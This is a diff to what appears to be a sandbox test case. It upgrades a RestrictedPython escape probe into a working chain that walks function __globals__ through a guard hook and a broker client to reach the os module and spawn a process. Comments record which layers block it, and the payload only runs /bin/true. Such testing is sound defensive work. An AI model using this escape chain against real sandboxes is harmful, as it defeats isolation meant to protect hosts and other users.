@@ -1,6 +1,10 @@
 # attack: function globals
-# stops: restrictedpython
-# a function's __globals__
+# stops: restrictedpython: "__globals__" is an invalid attribute name
+# os: process/seccomp: Operation not permitted
+# baseline: -restrictedpython => escaped
+# a script function's __globals__ holds the guard hook, whose own globals lead to os
 def f():
     pass
-print(f.__globals__, "ESCAPED")
+hook = f.__globals__["_getattr_"]
+os = hook.__globals__["api"].BrokerClient.call.__globals__["protocol"].os
+print("ESCAPED", os.posix_spawn("/bin/true", ["true"], {}))
